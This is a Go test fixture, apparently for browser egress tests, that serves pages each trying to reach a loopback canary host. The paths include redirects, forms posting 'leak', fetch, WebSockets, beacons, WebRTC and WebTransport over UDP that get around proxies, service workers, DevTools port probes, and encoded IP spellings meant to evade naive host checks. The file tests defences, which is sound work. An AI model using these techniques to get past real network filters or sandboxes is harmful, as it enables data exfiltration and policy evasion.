package demosite

import (
	"fmt"
	"html/template"
	"net/http"
	"net/url"
	"strconv"
	"strings"
)

// Attacks serves pages that each try to reach the canary by one path a
// browser can take: server redirects, script and form navigations, popups,
// frames, subresources, fetch, WebSockets, beacons, hints, service workers,
// downloads, and the canary's address in encoded spellings. Each page is
// served under /attack/<name>; the egress tests open it (and click the
// button with id "go" where the attempt needs a user gesture), and a canary
// that saw nothing is the proof that the gate held.
//
// Pages that attempt something by themselves write "done" into the element
// with id "status" once the attempt has been made (and settled, where the
// page can tell), so a test can wait on the page instead of sleeping.
type Attacks struct {
	// Canary is the base URL of the canary ("http://127.0.0.2:PORT", no
	// trailing slash). Every attack aims at a path under it that names the
	// attack, so a canary's log says which one got through.
	Canary string
	// CrossSite is the base URL of this same handler served on another
	// allowed site ("http://127.0.0.3:PORT"), for the out-of-process iframe
	// attacks. Empty means those pages use their own origin.
	CrossSite string
}

// NewAttackSite mounts the attack pages under /attack/ beside site, which
// serves everything else, so one server carries both the demo site and the
// attacks.
func NewAttackSite(site http.Handler, a *Attacks) http.Handler {
	mux := http.NewServeMux()
	mux.Handle("/attack/", a)
	mux.Handle("/", site)
	return mux
}

// attackData is what an attack page template sees.
type attackData struct {
	Name  string
	U     string // the canary URL this attack aims at (maybe encoded)
	WS    string // the canary as a WebSocket URL
	XSite string // the cross-site copy of this handler
	Port  int    // a loopback port to probe (DevTools, proxy)
	Meta  string // meta refresh content ("0;url=...")
}

// encodedHosts are spellings of 127.0.0.2 that Chromium reads as that
// address and a naive string check would not: decimal, hex and octal
// (WHATWG URL "IPv4 number parser"), a trailing dot, an IPv4-mapped IPv6
// literal, the short form a.b (b fills the low 24 bits), and percent-encoded
// host bytes (decoded before host parsing).
var encodedHosts = map[string]string{
	"decimal":     "2130706434",
	"hex":         "0x7f.0.0.2",
	"octal":       "0177.0.0.2",
	"trailingdot": "127.0.0.2.",
	"mapped6":     "[::ffff:127.0.0.2]",
	"short":       "127.2",
	"percent":     "%31%32%37.0.0.2",
}

// EncodedCanaryURLs returns the canary's base URL spelled each way in
// encodedHosts, keyed by the spelling's name, for tests that give them
// straight to navigate.
func EncodedCanaryURLs(canary string) map[string]string {
	port := canaryPort(canary)
	out := make(map[string]string, len(encodedHosts))
	for name, h := range encodedHosts {
		out[name] = "http://" + h + ":" + port
	}
	return out
}

// EncodedSpellings lists the names EncodedCanaryURLs and the
// /attack/encoded/<name> pages accept.
func EncodedSpellings() []string {
	return []string{"decimal", "hex", "octal", "trailingdot", "mapped6", "short", "percent"}
}

// plainHost reports whether h is a plain host name or IPv4 address
// (letters, digits, dots and hyphens), safe to put into a URL as it is.
func plainHost(h string) bool {
	if h == "" || len(h) > 253 {
		return false
	}
	for _, c := range h {
		if !(c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '.' || c == '-') {
			return false
		}
	}
	return true
}

func canaryPort(canary string) string {
	u, err := url.Parse(canary)
	if err != nil {
		return ""
	}
	return u.Port()
}

// ServeHTTP serves the attack named by the path after /attack/.
func (a *Attacks) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	name := strings.TrimPrefix(r.URL.Path, "/attack/")
	d := attackData{
		Name:  name,
		U:     a.Canary + "/" + strings.ReplaceAll(name, "/", "-"),
		WS:    "ws" + strings.TrimPrefix(a.Canary, "http") + "/ws/" + name,
		XSite: a.CrossSite,
	}
	switch {
	case internalTemplates[name]:
		http.NotFound(w, r)
		return
	case strings.HasPrefix(name, "redirect/"):
		// A server redirect straight to the canary.
		code, err := strconv.Atoi(strings.TrimPrefix(name, "redirect/"))
		if err != nil || code < 300 || code > 399 {
			http.NotFound(w, r)
			return
		}
		http.Redirect(w, r, d.U, code)
		return
	case name == "chain":
		// allowed -> allowed -> canary: every hop must be checked.
		http.Redirect(w, r, "/attack/chain/2", http.StatusFound)
		return
	case name == "chain/2":
		http.Redirect(w, r, a.Canary+"/chain", http.StatusTemporaryRedirect)
		return
	case name == "sw.js":
		// The service worker fetches the canary as it installs.
		w.Header().Set("Content-Type", "text/javascript")
		w.Header().Set("Cache-Control", "no-store")
		fmt.Fprintf(w, "self.addEventListener('install', e => e.waitUntil(fetch(%s, {mode: 'no-cors'}).catch(() => {})));\n",
			strconv.Quote(a.Canary+"/service-worker"))
		fmt.Fprintln(w, "self.addEventListener('activate', e => e.waitUntil(self.clients.claim()));")
		return
	case strings.HasPrefix(name, "encoded/"):
		h, ok := encodedHosts[strings.TrimPrefix(name, "encoded/")]
		if !ok {
			http.NotFound(w, r)
			return
		}
		d.U = "http://" + h + ":" + canaryPort(a.Canary) + "/" + strings.ReplaceAll(name, "/", "-")
		name = "encoded"
	case name == "devtools-port" || name == "proxy-port":
		// The test knows the port; the page probes it from script.
		p, err := strconv.Atoi(r.URL.Query().Get("port"))
		if err != nil || p <= 0 || p > 65535 {
			http.Error(w, "port: want 1-65535", http.StatusBadRequest)
			return
		}
		d.Port = p
		name = "port"
	case name == "off-port":
		// A host the scope allows, on a port it may not be reached on:
		// the page tries every subresource path to host:port.
		host, p := r.URL.Query().Get("host"), r.URL.Query().Get("port")
		n, err := strconv.Atoi(p)
		if err != nil || n <= 0 || n > 65535 || !plainHost(host) {
			http.Error(w, "host: want a name or IPv4 address; port: want 1-65535", http.StatusBadRequest)
			return
		}
		d.U = "http://" + host + ":" + p + "/off-port"
		d.WS = "ws://" + host + ":" + p + "/ws/off-port"
	case name == "meta-refresh":
		d.Meta = "0;url=" + d.U
	case name == "preconnect-header":
		// The hint as a response header: the browser reads it before
		// the parser sees the document.
		w.Header().Set("Link", "<"+d.U+">; rel=preconnect")
	}
	if d.XSite == "" {
		d.XSite = "http://" + r.Host
	}
	if attackPages.Lookup(name) == nil {
		http.NotFound(w, r)
		return
	}
	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	w.Header().Set("Cache-Control", "no-store")
	if err := attackPages.ExecuteTemplate(w, name, d); err != nil {
		http.Error(w, err.Error(), http.StatusInternalServerError)
	}
}

// internalTemplates are building blocks and parameterised pages that are
// reached only through their own paths (/attack/encoded/<spelling>,
// /attack/devtools-port?port=N).
var internalTemplates = map[string]bool{"": true, "attacks": true, "head": true, "body": true, "tail": true, "encoded": true, "port": true}

// attackPages holds one template per attack. The head defines done(), which
// writes "done" (and an optional result) into #status, or does so once the
// document is parsed when it is called before #status exists: an element
// of the head (a stylesheet refused at once) may report before the body's
// scripts run.
var attackPages = template.Must(template.New("attacks").Parse(`
{{define "head"}}<!doctype html><html lang="en"><head><meta charset="utf-8"><title>attack {{.Name}}</title>
<script>function done(r) {
  const say = () => { document.getElementById('status').textContent = 'done' + (r ? ': ' + r : ''); };
  if (document.getElementById('status')) { say(); } else { document.addEventListener('DOMContentLoaded', say); }
}</script>{{end}}
{{define "body"}}</head><body><h1>Attack: {{.Name}}</h1><p id="status">waiting</p>{{end}}
{{define "tail"}}</body></html>{{end}}

{{define "meta-refresh"}}{{template "head" .}}<meta http-equiv="refresh" content="{{.Meta}}">{{template "body" .}}
<script>done()</script>{{template "tail"}}{{end}}

{{define "js-location"}}{{template "head" .}}{{template "body" .}}
<script>location.href = {{.U}}; done();</script>{{template "tail"}}{{end}}

{{define "js-location-timer"}}{{template "head" .}}{{template "body" .}}
<script>setTimeout(() => { location.assign({{.U}}); setTimeout(done, 300); }, 50);</script>{{template "tail"}}{{end}}

{{define "window-open"}}{{template "head" .}}{{template "body" .}}
<button id="go" onclick="window.open({{.U}}); done()">Go</button>{{template "tail"}}{{end}}

{{define "link-click"}}{{template "head" .}}{{template "body" .}}
<p><a id="go" href="{{.U}}">Go</a></p>{{template "tail"}}{{end}}

{{define "form-get"}}{{template "head" .}}{{template "body" .}}
<form method="get" action="{{.U}}"><input name="q" value="leak"><button id="go">Go</button></form>{{template "tail"}}{{end}}

{{define "form-post"}}{{template "head" .}}{{template "body" .}}
<form method="post" action="{{.U}}"><input name="q" value="leak"><button id="go">Go</button></form>{{template "tail"}}{{end}}

{{define "iframe"}}{{template "head" .}}{{template "body" .}}
<iframe src="{{.U}}" onload="done()"></iframe>{{template "tail"}}{{end}}

{{define "cross-site-iframe"}}{{template "head" .}}{{template "body" .}}
<script>addEventListener('message', e => { if (e.data === 'inner done') done(); });</script>
<iframe src="{{.XSite}}/attack/inner"></iframe>{{template "tail"}}{{end}}

{{define "inner"}}{{template "head" .}}{{template "body" .}}
<img src="{{.U}}-img" alt="">
<script>fetch({{.U}}, {mode: 'no-cors'}).then(() => 'reached', () => 'blocked').then(r => { done(r); parent.postMessage('inner done', '*'); });</script>{{template "tail"}}{{end}}

{{define "cross-site-iframe-navigate"}}{{template "head" .}}{{template "body" .}}
<iframe src="{{.XSite}}/attack/inner-navigate" onload="done()"></iframe>{{template "tail"}}{{end}}

{{define "inner-navigate"}}{{template "head" .}}{{template "body" .}}
<script>location.href = {{.U}}; done();</script>{{template "tail"}}{{end}}

{{define "img"}}{{template "head" .}}{{template "body" .}}
<img src="{{.U}}" alt="" onload="done('reached')" onerror="done('blocked')">{{template "tail"}}{{end}}

{{define "script"}}{{template "head" .}}{{template "body" .}}
<script src="{{.U}}" onload="done('reached')" onerror="done('blocked')"></script>{{template "tail"}}{{end}}

{{define "stylesheet"}}{{template "head" .}}<link rel="stylesheet" href="{{.U}}" onload="done('reached')" onerror="done('blocked')">{{template "body" .}}{{template "tail"}}{{end}}

{{define "fetch"}}{{template "head" .}}{{template "body" .}}
<script>fetch({{.U}}, {mode: 'no-cors'}).then(() => done('reached'), () => done('blocked'));</script>{{template "tail"}}{{end}}

{{define "xhr"}}{{template "head" .}}{{template "body" .}}
<script>const x = new XMLHttpRequest(); x.onloadend = () => done(); x.open('GET', {{.U}}); x.send();</script>{{template "tail"}}{{end}}

{{define "websocket"}}{{template "head" .}}{{template "body" .}}
<script>const s = new WebSocket({{.WS}}); s.onopen = () => { done('reached'); s.close(); }; s.onerror = () => done('blocked');</script>{{template "tail"}}{{end}}

{{define "eventsource"}}{{template "head" .}}{{template "body" .}}
<script>const es = new EventSource({{.U}}); es.onopen = () => { done('reached'); es.close(); }; es.onerror = () => { done('blocked'); es.close(); };</script>{{template "tail"}}{{end}}

{{define "webrtc"}}{{template "head" .}}{{template "body" .}}
<script>
// WebRTC ICE gathering sends STUN over UDP, around any HTTP proxy: the
// STUN server is the test's UDP canary (?stun=host:port).
const report = r => {
  done(r);
  if (parent !== window) parent.postMessage('webrtc ' + r, '*');
  if (opener) opener.postMessage('webrtc ' + r, '*');
};
(async () => {
  if (typeof RTCPeerConnection !== 'function') { report('no RTCPeerConnection'); return; }
  const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:' + new URLSearchParams(location.search).get('stun')}]});
  pc.createDataChannel('x');
  await pc.setLocalDescription(await pc.createOffer());
  setTimeout(() => { pc.close(); report('gathered'); }, 700);
})().catch(e => report('error: ' + e));
</script>{{template "tail"}}{{end}}

{{define "webrtc-frame"}}{{template "head" .}}{{template "body" .}}
<script>
// The same attempt from a cross-site iframe, a target of its own.
addEventListener('message', e => done(String(e.data)));
const f = document.createElement('iframe');
f.src = {{.XSite}} + '/attack/webrtc' + location.search;
document.body.appendChild(f);
</script>{{template "tail"}}{{end}}

{{define "webrtc-popup"}}{{template "head" .}}{{template "body" .}}
<script>
// The same attempt from a popup, whose first script runs at once. The
// popup opens from a link (target=_blank) whose href is set before the
// click, so that the gate judges where the click leads (a script's
// window.open during a click goes nowhere the gate judged, and is stopped).
addEventListener('message', e => done(String(e.data)));
</script>
<a id="go" target="_blank" rel="opener" href="#">Go</a>
<script>document.getElementById('go').href = '/attack/webrtc' + location.search;</script>{{template "tail"}}{{end}}

{{define "webtransport"}}{{template "head" .}}{{template "body" .}}
<script>
// WebTransport runs over HTTP/3, QUIC on UDP, around any HTTP proxy: the
// server is the test's UDP canary (?quic=host:port). The same from a
// dedicated worker (?worker=1), where no page script runs first.
const q = new URLSearchParams(location.search);
function attempt(quic) {
  if (typeof WebTransport !== 'function') return 'no WebTransport';
  try {
    const t = new WebTransport('https://' + quic + '/wt');
    t.ready.then(() => t.close(), () => {});
    return 'tried';
  } catch (e) { return 'error: ' + e; }
}
if (q.get('worker') && typeof Worker !== 'function') {
  done('no Worker');
} else if (q.get('worker')) {
  const src = attempt.toString() + '; postMessage(attempt(' + JSON.stringify(q.get('quic')) + '));';
  const w = new Worker(URL.createObjectURL(new Blob([src], {type: 'text/javascript'})));
  w.onmessage = e => setTimeout(() => done('worker: ' + e.data), 700);
} else {
  const r = attempt(q.get('quic'));
  setTimeout(() => done(r), 700);
}
</script>{{template "tail"}}{{end}}

{{define "beacon"}}{{template "head" .}}{{template "body" .}}
<script>done(navigator.sendBeacon({{.U}}, 'leak') ? 'queued' : 'refused');</script>{{template "tail"}}{{end}}

{{define "prefetch"}}{{template "head" .}}<link rel="prefetch" href="{{.U}}">{{template "body" .}}
<script>addEventListener('load', () => setTimeout(done, 100));</script>{{template "tail"}}{{end}}

{{define "preconnect"}}{{template "head" .}}<link rel="preconnect" href="{{.U}}">{{template "body" .}}
<script>addEventListener('load', () => setTimeout(done, 100));</script>{{template "tail"}}{{end}}

{{define "preconnect-header"}}{{template "head" .}}{{template "body" .}}
<script>addEventListener('load', () => setTimeout(done, 100));</script>{{template "tail"}}{{end}}

{{define "dns-prefetch"}}{{template "head" .}}<link rel="dns-prefetch" href="{{.U}}">{{template "body" .}}
<script>addEventListener('load', () => setTimeout(done, 100));</script>{{template "tail"}}{{end}}

{{define "service-worker"}}{{template "head" .}}{{template "body" .}}
<script>
if (!navigator.serviceWorker) { done('unsupported'); } else {
  navigator.serviceWorker.register('/attack/sw.js').then(() => navigator.serviceWorker.ready).then(() => done('installed'), e => done('failed'));
}
</script>{{template "tail"}}{{end}}

{{define "download"}}{{template "head" .}}{{template "body" .}}
<p><a id="go" href="{{.U}}.bin" download="leak.bin">Download</a></p>{{template "tail"}}{{end}}

{{define "encoded"}}{{template "head" .}}{{template "body" .}}
<img src="{{.U}}-img" alt="">
<script>fetch({{.U}}, {mode: 'no-cors'}).then(() => done('reached'), () => done('blocked'));</script>{{template "tail"}}{{end}}

{{define "off-port"}}{{template "head" .}}{{template "body" .}}
<img src="{{.U}}-img"><iframe src="{{.U}}-iframe"></iframe>
<script>
const ws = new WebSocket({{.WS}});
ws.onerror = ws.onclose = () => {};
fetch({{.U}} + '-fetch', {mode: 'no-cors'}).then(() => done('reached'), () => done('blocked'));
</script>{{template "tail"}}{{end}}

{{define "port"}}{{template "head" .}}{{template "body" .}}
<script>fetch('http://127.0.0.1:' + {{.Port}} + '/json/version', {mode: 'no-cors'}).then(() => done('reached'), () => done('blocked'));</script>{{template "tail"}}{{end}}
`))
